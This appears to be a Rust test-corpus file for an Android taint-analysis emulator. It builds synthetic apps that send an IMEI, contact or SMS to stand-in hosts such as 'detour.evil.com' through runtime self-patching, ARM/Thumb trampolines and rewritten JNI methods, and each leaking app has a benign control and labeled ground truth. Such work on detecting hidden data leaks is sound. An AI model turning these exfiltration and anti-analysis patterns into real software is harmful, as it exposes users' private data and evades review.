//! The adversarial app corpus: apps that *fight* the tracer with the
//! anti-analysis behaviors of paper §V — self-patching native code,
//! Thumb↔ARM interworking trampolines, and JNI method bodies rewritten
//! between invocations — plus μDep-style mutation variants of a single
//! synthetic flow with labeled ground truth.
//!
//! Every case carries its expected verdict, so the corpus is scored
//! (TP/FP/TN/FN, precision, recall) by `ndroid_core::score` rather than
//! merely asserted case-by-case: aggregate recall must be 1.0 on the
//! taint-preserving cases and precision 1.0 on the taint-killing and
//! benign ones. The three hand-built families deliberately stress the
//! SMC machinery of the code caches (decoded-instruction and superblock
//! cache invalidation on code-page writes):
//!
//! * [`detour_leak`] — a function's prologue is overwritten *at
//!   runtime* with a branch to a patched copy that returns the tainted
//!   buffer (the detour-rs idiom). The function is called once before
//!   patching so the stale decode is hot in the icache.
//! * [`interwork_leak`] — the tainted buffer rides an ARM → Thumb →
//!   ARM trampoline chain (BLX register interworking both ways) before
//!   reaching the sink.
//! * [`rewrite_leak`] — a JNI method patches its own selector
//!   instruction during its first invocation; the second invocation
//!   (same method, now different bytes) routes the tainted buffer to
//!   the sink.
//!
//! Each has a `*_benign` twin that performs the *identical* code
//! patching and mode switching but keeps sensitive data away from the
//! sink — the false-positive controls.

use crate::builder::{App, AppBuilder};
use crate::synth::{self, FlowSpec, Hop, Mutation, Sink, Source};
use ndroid_arm::asm::{branch_word, encoding_of, ThumbAssembler};
use ndroid_arm::reg::RegList;
use ndroid_arm::thumb::enc;
use ndroid_arm::{Cond, Reg};
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_emu::layout::NATIVE_CODE_BASE;
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Where the interworking app's Thumb trampoline lives (inside the
/// third-party region, clear of the ARM assembler's range).
const INTERWORK_THUMB_BASE: u32 = NATIVE_CODE_BASE + 0x0004_0000;

/// Emits the shared `String → native buffer` preamble: saves regs,
/// calls `GetStringUTFChars(arg, 0)` and strcpys the chars into
/// `taintbuf`. Leaves nothing live in caller-saved registers.
fn emit_capture_arg(b: &mut AppBuilder, taintbuf: u32) {
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::LR]));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.ldr_const(Reg::R0, taintbuf);
    b.asm.call_abs(libc_addr("strcpy"));
}

/// Emits `socket(); connect(fd, dest); send(fd, payload, strlen, 0)`
/// with the payload pointer in `r4`. Clobbers r0-r3, r7, r12.
fn emit_send_r4(b: &mut AppBuilder, dest: u32) {
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R7, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R7);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
}

/// Emits the `source → native run(arg) × calls` bytecode entry point.
fn emit_main(
    b: &mut AppBuilder,
    class: ndroid_dvm::ClassId,
    native: ndroid_dvm::MethodId,
    source: Source,
    calls: usize,
) {
    let (src_cls, src_m) = source.method();
    let src = b.program.find_method_by_name(src_cls, src_m).unwrap();
    let mut code = vec![
        DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: src,
            args: vec![],
        },
        DexInsn::MoveResult { dst: 0 },
    ];
    for _ in 0..calls {
        code.push(DexInsn::Invoke {
            kind: InvokeKind::Static,
            method: native,
            args: vec![0],
        });
    }
    code.push(DexInsn::ReturnVoid);
    b.method(
        class,
        MethodDef::new("main", "V", MethodKind::Bytecode(code)).with_registers(1),
    );
}

fn detour_app(leak: bool) -> App {
    let mut b = AppBuilder::new(
        if leak { "detour-leak" } else { "detour-benign" },
        "installs an inline detour over its own payload selector at runtime",
    );
    let c = b.class("Lapp/Detour;");
    let dest = b.data_cstr("detour.evil.com");
    let taintbuf = b.data_buffer(128);
    let decoy = b.data_cstr("warmup-payload");
    let patched_decoy = b.data_cstr("patched-but-clean");

    // victim(): returns the payload pointer. Original body selects the
    // warm-up decoy; the detour target is a patched copy selecting the
    // tainted buffer (leak) or a second clean string (benign).
    let victim_addr = b.asm.here();
    b.asm.ldr_const(Reg::R0, decoy);
    b.asm.bx(Reg::LR);
    let target_addr = b.asm.here();
    b.asm
        .ldr_const(Reg::R0, if leak { taintbuf } else { patched_decoy });
    b.asm.bx(Reg::LR);
    // The detour: one word, `B target`, laid over victim's prologue.
    let detour = branch_word(victim_addr, target_addr).expect("in-range detour");

    // void run(String data)
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    emit_capture_arg(&mut b, taintbuf);
    // Warm-up call: victim's original first instruction is now decoded
    // and hot in the icache.
    b.asm.call_abs(victim_addr);
    // Install the detour over the prologue (an in-guest store into the
    // library's own text — the icache must shoot the page down).
    b.asm.ldr_const(Reg::R2, detour);
    b.asm.ldr_const(Reg::R3, victim_addr);
    b.asm.str(Reg::R2, Reg::R3, 0);
    // Call through the detour and ship whatever it returns.
    b.asm.call_abs(victim_addr);
    b.asm.mov(Reg::R4, Reg::R0);
    emit_send_r4(&mut b, dest);
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "run", "VL", true, entry);

    emit_main(&mut b, c, native, Source::Imei, 1);
    let mut app = b.finish("Lapp/Detour;", "main").unwrap();
    app.lib_name = "libdetour.so".to_string();
    app
}

/// Detour family, leaking variant: the patched copy returns the
/// tainted buffer, so the post-patch call leaks the IMEI.
pub fn detour_leak() -> App {
    detour_app(true)
}

/// Detour family, false-positive control: identical runtime patching,
/// but the patched copy returns a clean constant.
pub fn detour_benign() -> App {
    detour_app(false)
}

fn interwork_app(leak: bool) -> App {
    let mut b = AppBuilder::new(
        if leak { "interwork-leak" } else { "interwork-benign" },
        "routes the payload through an ARM->Thumb->ARM trampoline chain",
    );
    let c = b.class("Lapp/Interwork;");
    let dest = b.data_cstr("interwork.evil.com");
    let taintbuf = b.data_buffer(128);
    let outbuf = b.data_buffer(128);
    let decoy = b.data_cstr("mode-switch-decoy");

    // ARM sender(payload*): the far end of the trampoline chain. Called
    // *from Thumb* via BLX, returns via popped LR + BX (guaranteed
    // interworking back to Thumb).
    let sender_addr = b.asm.here();
    b.asm.push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.bx(Reg::LR);

    // void run(String data) — ARM entry: capture the arg, then hand
    // (src, outbuf) to the Thumb trampoline.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    emit_capture_arg(&mut b, taintbuf);
    b.asm
        .ldr_const(Reg::R0, if leak { taintbuf } else { decoy });
    b.asm.ldr_const(Reg::R1, outbuf);
    b.asm.call_interwork(INTERWORK_THUMB_BASE, true);
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "run", "VL", true, entry);

    // Thumb trampoline(src, dst): word-copies 32 bytes src→dst in T16
    // encodings (the Thumb tracer propagates, not the libc model),
    // then BLXes the ARM sender and BXes back to the ARM caller.
    let mut t = ThumbAssembler::new(INTERWORK_THUMB_BASE);
    t.raw(enc::mov_hi(Reg::R4, Reg::R0)); // src
    t.raw(enc::mov_hi(Reg::R5, Reg::R1)); // dst
    t.raw(enc::mov_hi(Reg::R6, Reg::LR)); // ARM return address
    t.raw(enc::mov_imm(Reg::R3, 0));
    let top = t.label();
    t.bind(top).unwrap();
    t.raw(enc::ldr_reg(Reg::R0, Reg::R4, Reg::R3));
    t.raw(enc::str_reg(Reg::R0, Reg::R5, Reg::R3));
    t.raw(enc::add_imm8(Reg::R3, 4));
    t.raw(enc::cmp_imm(Reg::R3, 32));
    t.b_cond(Cond::Ne, top);
    t.raw(enc::mov_hi(Reg::R0, Reg::R5));
    t.call_interwork(sender_addr, false); // Thumb → ARM
    t.raw(enc::bx(Reg::R6)); // Thumb → ARM (return)
    let thumb_code = t.assemble().expect("thumb trampoline assembly");

    emit_main(&mut b, c, native, Source::Contact, 1);
    let mut app = b.finish("Lapp/Interwork;", "main").unwrap();
    app.data.push((INTERWORK_THUMB_BASE, thumb_code.bytes));
    app.lib_name = "libinterwork.so".to_string();
    app
}

/// Interworking family, leaking variant: the contact name crosses two
/// mode switches (ARM→Thumb→ARM) on its way to `send`.
pub fn interwork_leak() -> App {
    interwork_app(true)
}

/// Interworking family, false-positive control: the same trampoline
/// chain carries a clean decoy; the tainted buffer never leaves.
pub fn interwork_benign() -> App {
    interwork_app(false)
}

fn rewrite_app(leak: bool) -> App {
    let mut b = AppBuilder::new(
        if leak { "rewrite-leak" } else { "rewrite-benign" },
        "JNI method rewrites its own selector between invocations",
    );
    let c = b.class("Lapp/Rewrite;");
    let dest = b.data_cstr("rewrite.evil.com");
    let taintbuf = b.data_buffer(128);
    let decoy = b.data_cstr("first-call-decoy");

    // void run(String data) — invoked TWICE from Java. A selector
    // instruction chooses decoy vs tainted payload; the method patches
    // that instruction during each call, so the second invocation runs
    // different bytes than the code caches saw the first time.
    let entry = b.asm.label();
    b.asm.bind(entry).unwrap();
    emit_capture_arg(&mut b, taintbuf);
    b.asm.mov_imm(Reg::R4, 0).unwrap();
    // The selector: starts as `mov r4, #0` (decoy). The leaking
    // variant patches it to `mov r4, #1`; the benign one to
    // `eor r4, r4, #0` — different bytes, same verdict.
    let selector_addr = b.asm.here();
    b.asm.mov_imm(Reg::R4, 0).unwrap();
    b.asm.cmp_imm(Reg::R4, 0).unwrap();
    b.asm.ldr_const(Reg::R5, taintbuf);
    let tainted = b.asm.label();
    b.asm.b_cond(Cond::Ne, tainted);
    b.asm.ldr_const(Reg::R5, decoy);
    b.asm.bind(tainted).unwrap();
    b.asm.mov(Reg::R4, Reg::R5);
    emit_send_r4(&mut b, dest);
    // Rewrite the selector in place for the next invocation.
    let patch = if leak {
        encoding_of(|a| a.mov_imm(Reg::R4, 1).unwrap())
    } else {
        encoding_of(|a| a.eor_imm(Reg::R4, Reg::R4, 0).unwrap())
    };
    b.asm.ldr_const(Reg::R2, patch);
    b.asm.ldr_const(Reg::R3, selector_addr);
    b.asm.str(Reg::R2, Reg::R3, 0);
    b.asm.mov_imm(Reg::R0, 0).unwrap();
    b.asm
        .pop(RegList::of(&[Reg::R4, Reg::R5, Reg::R6, Reg::R7, Reg::PC]));
    let native = b.native_method(c, "run", "VL", true, entry);

    emit_main(&mut b, c, native, Source::Sms, 2);
    let mut app = b.finish("Lapp/Rewrite;", "main").unwrap();
    app.lib_name = "librewrite.so".to_string();
    app
}

/// Rewrite family, leaking variant: call 1 sends the decoy and patches
/// the selector; call 2 (same JNI method, new bytes) sends the SMS.
pub fn rewrite_leak() -> App {
    rewrite_app(true)
}

/// Rewrite family, false-positive control: the method still rewrites
/// itself between invocations, but the new selector bytes are
/// semantically identical — both calls send the decoy.
pub fn rewrite_benign() -> App {
    rewrite_app(false)
}

/// The base flow every mutation variant starts from.
fn mutation_base() -> FlowSpec {
    FlowSpec {
        source: Source::Contact,
        hops: vec![Hop::Strcpy],
        sink: Sink::NativeSend,
        leak: true,
        mutations: vec![],
    }
}

/// The μDep-style mutation variants of the base flow (a contact
/// `strcpy`-ed to a native `send`), labeled with their ground truth:
/// taint-preserving mutations keep the leak, taint-killing ones sever
/// it (and a later preserving mutation must not resurrect it).
pub fn mutation_variants() -> Vec<(&'static str, FlowSpec)> {
    vec![
        ("mutation/xor29", mutation_base().with_mutations(&[Mutation::Xor29])),
        ("mutation/reverse", mutation_base().with_mutations(&[Mutation::Reverse])),
        (
            "mutation/xor29-reverse",
            mutation_base().with_mutations(&[Mutation::Xor29, Mutation::Reverse]),
        ),
        (
            "mutation/const-stamp",
            mutation_base().with_mutations(&[Mutation::ConstStamp]),
        ),
        (
            "mutation/implicit-only",
            mutation_base().with_mutations(&[Mutation::ImplicitOnly]),
        ),
        (
            "mutation/stamp-then-xor29",
            mutation_base().with_mutations(&[Mutation::ConstStamp, Mutation::Xor29]),
        ),
    ]
}

/// How a corpus case constructs its app.
pub enum CaseApp {
    /// A hand-built adversarial (or benign-control) app.
    Builder(fn() -> App),
    /// A synthetic flow from a (possibly mutated) [`FlowSpec`].
    Spec(FlowSpec),
}

/// One labeled corpus case: `family/name`, its ground truth, and its
/// app constructor.
pub struct AdversarialCase {
    /// Stable `family/name` label (the family is the scoring key).
    pub label: &'static str,
    /// Ground truth: should an analysis flag this case as leaking?
    pub expected_leak: bool,
    /// The app source.
    pub app: CaseApp,
}

impl AdversarialCase {
    /// The family component of the label.
    pub fn family(&self) -> &'static str {
        self.label.split('/').next().unwrap_or(self.label)
    }

    /// Builds a fresh app for this case (app constructors are cheap
    /// pure functions — build one per run).
    pub fn build(&self) -> App {
        match &self.app {
            CaseApp::Builder(f) => f(),
            CaseApp::Spec(spec) => synth::build(spec),
        }
    }
}

/// The full adversarial corpus, in pinned order: three hand-built
/// families (leak + benign control each), the mutation variants, and
/// the heavy-JNI benign apps. This list is the single source of truth
/// for both the farm jobs and the ground-truth oracle.
pub fn corpus() -> Vec<AdversarialCase> {
    let mut cases = vec![
        AdversarialCase {
            label: "detour/leak",
            expected_leak: true,
            app: CaseApp::Builder(detour_leak),
        },
        AdversarialCase {
            label: "detour/benign",
            expected_leak: false,
            app: CaseApp::Builder(detour_benign),
        },
        AdversarialCase {
            label: "interwork/leak",
            expected_leak: true,
            app: CaseApp::Builder(interwork_leak),
        },
        AdversarialCase {
            label: "interwork/benign",
            expected_leak: false,
            app: CaseApp::Builder(interwork_benign),
        },
        AdversarialCase {
            label: "rewrite/leak",
            expected_leak: true,
            app: CaseApp::Builder(rewrite_leak),
        },
        AdversarialCase {
            label: "rewrite/benign",
            expected_leak: false,
            app: CaseApp::Builder(rewrite_benign),
        },
    ];
    for (label, spec) in mutation_variants() {
        cases.push(AdversarialCase {
            label,
            expected_leak: spec.expected_leak(),
            app: CaseApp::Spec(spec),
        });
    }
    cases.push(AdversarialCase {
        label: "benign/physics-game",
        expected_leak: false,
        app: CaseApp::Builder(crate::benign::physics_game),
    });
    cases.push(AdversarialCase {
        label: "benign/audio-license",
        expected_leak: false,
        app: CaseApp::Builder(crate::benign::audio_license_check),
    });
    cases.push(AdversarialCase {
        label: "benign/dsp-filter",
        expected_leak: false,
        app: CaseApp::Builder(crate::benign::dsp_filter),
    });
    cases
}

/// The ground-truth oracle over corpus labels.
pub fn expected_leak(label: &str) -> Option<bool> {
    corpus()
        .iter()
        .find(|c| c.label == label)
        .map(|c| c.expected_leak)
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn detour_leak_caught_and_benign_clean() {
        let sys = detour_leak().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1, "post-patch call ships the IMEI");
        assert!(leaks[0].taint.contains(Taint::IMEI));
        assert_eq!(leaks[0].dest, "detour.evil.com");

        let sys = detour_benign().run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty(), "patched copy returns a constant");
        assert_eq!(sys.report().network_log.len(), 1, "the send still happened");
    }

    #[test]
    fn detour_actually_detours() {
        // The wire payload proves execution followed the *new* bytes:
        // the warm-up decoy is never sent, the detour target's
        // selection is.
        let sys = detour_benign().run(Mode::Vanilla).unwrap();
        let (_, payload, _) = &sys.report().network_log[0];
        assert_eq!(payload.as_slice(), b"patched-but-clean");
    }

    #[test]
    fn interwork_leak_caught_and_benign_clean() {
        let sys = interwork_leak().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert!(leaks[0].data.starts_with(b"Vincent"), "{:?}", leaks[0].data);

        let sys = interwork_benign().run(Mode::NDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.report().network_log.len(), 1);
    }

    #[test]
    fn rewrite_second_invocation_runs_new_bytes() {
        let sys = rewrite_leak().run(Mode::NDroid).unwrap();
        assert_eq!(sys.report().network_log.len(), 2, "both invocations send");
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1, "only the rewritten second call leaks");
        assert!(leaks[0].taint.contains(Taint::SMS));

        let sys = rewrite_benign().run(Mode::NDroid).unwrap();
        assert_eq!(sys.report().network_log.len(), 2);
        assert!(sys.leaks().is_empty(), "rewritten selector is still clean");
    }

    #[test]
    fn corpus_labels_are_unique_and_spec_truth_is_consistent() {
        let cases = corpus();
        for (i, a) in cases.iter().enumerate() {
            for b in &cases[i + 1..] {
                assert_ne!(a.label, b.label);
            }
            if let CaseApp::Spec(spec) = &a.app {
                assert_eq!(a.expected_leak, spec.expected_leak(), "{}", a.label);
            }
            assert!(expected_leak(a.label) == Some(a.expected_leak));
        }
        assert!(expected_leak("no/such-case").is_none());
        // Both polarities are represented, so recall AND precision are
        // exercised.
        assert!(cases.iter().any(|c| c.expected_leak));
        assert!(cases.iter().any(|c| !c.expected_leak));
    }

    #[test]
    fn every_case_matches_its_ground_truth_under_ndroid() {
        for case in corpus() {
            let sys = case.build().run(Mode::NDroid).unwrap();
            assert_eq!(
                sys.report().leaked(),
                case.expected_leak,
                "{}: verdict disagrees with ground truth",
                case.label
            );
        }
    }
}
